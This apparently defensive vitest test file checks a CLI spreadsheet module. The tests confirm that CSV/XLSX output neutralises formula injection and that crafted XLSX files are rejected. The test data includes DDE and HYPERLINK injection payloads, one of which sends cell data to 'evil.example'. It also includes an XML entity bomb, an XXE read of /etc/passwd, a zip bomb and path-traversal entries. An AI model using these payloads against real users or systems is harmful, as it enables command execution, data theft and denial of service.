import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { openSheet } from '@xinlu/cli/sheet/read'
import { writeSheet } from '@xinlu/cli/sheet/write'
import ExcelJS from 'exceljs'
import { strToU8, zipSync } from 'fflate'
import iconv from 'iconv-lite'
import { afterAll, describe, expect, it } from 'vitest'
import { computedSince } from '../computed.ts'

const folder = mkdtempSync(join(tmpdir(), 'xinlu-sheets-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const running = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+A1',
  '＠SUM(1)',
  '\n=1',
]
const harmless = ['文水县', '-5', '+86 138', '-12.5%', '—', "'quoted'", 'a=b', '1-2', '']

async function* rowsOf(cells: readonly string[]) {
  for (const cell of cells) yield ['甲', cell]
}
const columns = ['名称', '备注']
const read = async (path: string) => {
  const sheet = await openSheet(path)
  const cells: (string | null)[] = []
  try {
    for await (const row of sheet.rows) cells.push(row.cells[1] ?? null)
  } finally {
    await sheet.close()
  }
  return cells
}
/** What a spreadsheet runs of what stands in a cell. */
const runs = /^"?\s*[=@＝＠]|^"?\s*[+\-＋－](?![\d.,%\s]*"?$)/

describe('a cell that a spreadsheet would run', () => {
  it.each(['UTF-8', 'GB18030'] as const)('is text in a CSV file in %s, and read back as it was', async (encoding) => {
    const path = join(folder, `${encoding}.csv`)
    const marked = [...running, ...harmless, ...running.map((one) => `'${one}`), `''=1`]
    await writeSheet(path, { format: 'CSV', encoding, columns, rows: rowsOf(marked) })
    const text = iconv.decode(await readFile(path), encoding === 'UTF-8' ? 'utf8' : 'gb18030')
    for (const line of text.split('\r\n').filter(Boolean)) expect(line.replace(/^[^,]*,/, '')).not.toMatch(runs)
    expect(await read(path)).toEqual(marked.map((one) => one || null))
  })

  it('is text in an XLSX file: no cell is a formula to another program', async () => {
    const path = join(folder, 'a.xlsx')
    await writeSheet(path, { format: 'XLSX', columns, rows: rowsOf(running) })
    const book = new ExcelJS.Workbook()
    await book.xlsx.readFile(path)
    const kinds = new Set<number>()
    book.worksheets[0]?.eachRow((row) => row.eachCell((cell) => kinds.add(cell.type)))
    expect(kinds).toEqual(new Set([ExcelJS.ValueType.String]))
    expect(await read(path)).toEqual(running)
  })
})

const relations =
  '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
const sheet = (rows: string) => `<worksheet><sheetData>${rows}</sheetData></worksheet>`
const row = '<row r="1"><c t="str"><v>a</v></c></row>'
const book = '<workbook xmlns:r="r"><sheets><sheet name="一" r:id="r1"/></sheets></workbook>'
const workbook = (more: Record<string, string>) => {
  const parts = {
    'xl/workbook.xml': book,
    'xl/_rels/workbook.xml.rels': relations,
    'xl/worksheets/sheet1.xml': sheet(row),
  }
  const files = Object.entries({ ...parts, ...more }).map(([name, text]) => [name, strToU8(text)])
  return zipSync(Object.fromEntries(files), { level: 1 })
}
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'abcdefghij'[i + 1]} "${`&${'abcdefghij'[i]};`.repeat(10)}">`).join('')}]>`
const outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

/** The same packed bytes under many names, as a file whose directory says so: small as it is, it would inflate to gigabytes. */
function overlapping(): Uint8Array {
  const one = Buffer.from(zipSync({ 'a.xml': new Uint8Array(40 * 1024 ** 2) }, { level: 9 }))
  const directory = one.readUInt32LE(one.length - 6)
  const entry = one.subarray(directory, one.length - 22)
  const end = Buffer.from(one.subarray(one.length - 22))
  const many = 2_000
  end.writeUInt16LE(many, 8)
  end.writeUInt16LE(many, 10)
  end.writeUInt32LE(entry.length * many, 12)
  return Buffer.concat([one.subarray(0, directory), ...Array.from({ length: many }, () => entry), end])
}

const bombs: [string, () => Uint8Array][] = [
  [
    'entities that grow',
    () => workbook({ 'xl/worksheets/sheet1.xml': `${laughs}${sheet(row.replace('>a<', '>&j;<'))}` }),
  ],
  [
    'an entity that is a file',
    () => workbook({ 'xl/worksheets/sheet1.xml': `${outside}${sheet(row.replace('>a<', '>&e;<'))}` }),
  ],
  ['elements without end inside each other', () => workbook({ 'xl/worksheets/sheet1.xml': '<a>'.repeat(3_000_000) })],
  [
    'a text that no cell holds',
    () => workbook({ 'xl/worksheets/sheet1.xml': sheet(row.replace('>a<', `>${'a<b/>'.repeat(100_000)}<`)) }),
  ],
  [
    'a shared text that no cell holds',
    () => workbook({ 'xl/sharedStrings.xml': `<sst><si><t>${'a<b/>'.repeat(300_000)}</t></si></sst>` }),
  ],
  [
    'a formula that many cells share',
    () => {
      const formula = `<c><f t="shared" si="0">${'A'.repeat(1_000_000)}</f></c>`
      return workbook({
        'xl/worksheets/sheet1.xml': sheet(`<row>${formula}${'<c><f t="shared" si="0"/></c>'.repeat(150)}</row>`),
      })
    },
  ],
  [
    'one sheet named a thousand times',
    () =>
      workbook({
        'xl/workbook.xml': book.replace(/<sheet name.*?\/>/, (one) => one.repeat(1_000)),
        'xl/worksheets/sheet1.xml': sheet('<row/>'.repeat(1_000)),
      }),
  ],
  ['many parts that share their bytes', overlapping],
  ['12,000 parts', () => workbook(Object.fromEntries(Array.from({ length: 12_000 }, (_, i) => [`x${i}`, ''])))],
  [
    'parts with the names of paths',
    () =>
      workbook({
        'xl/workbook.xml': book,
        'xl/_rels/workbook.xml.rels': relations.replace('worksheets/sheet1.xml', '../../../../etc/passwd'),
        '../../etc/passwd': 'root',
      }),
  ],
]

describe('a workbook made to fill the memory or the day', () => {
  it.each(bombs)('with %s is refused with a code, at once', async (_, make) => {
    const path = join(folder, 'bomb.xlsx')
    writeFileSync(path, make())
    const [before, computed] = [process.memoryUsage().rss, computedSince()]
    await expect(read(path)).rejects.toMatchObject({ name: 'XinluError', code: expect.stringMatching(/^FILE_/) })
    expect(computed()).toBeLessThan(3_000)
    expect((process.memoryUsage().rss - before) / 1024 ** 2).toBeLessThan(250)
  })
})
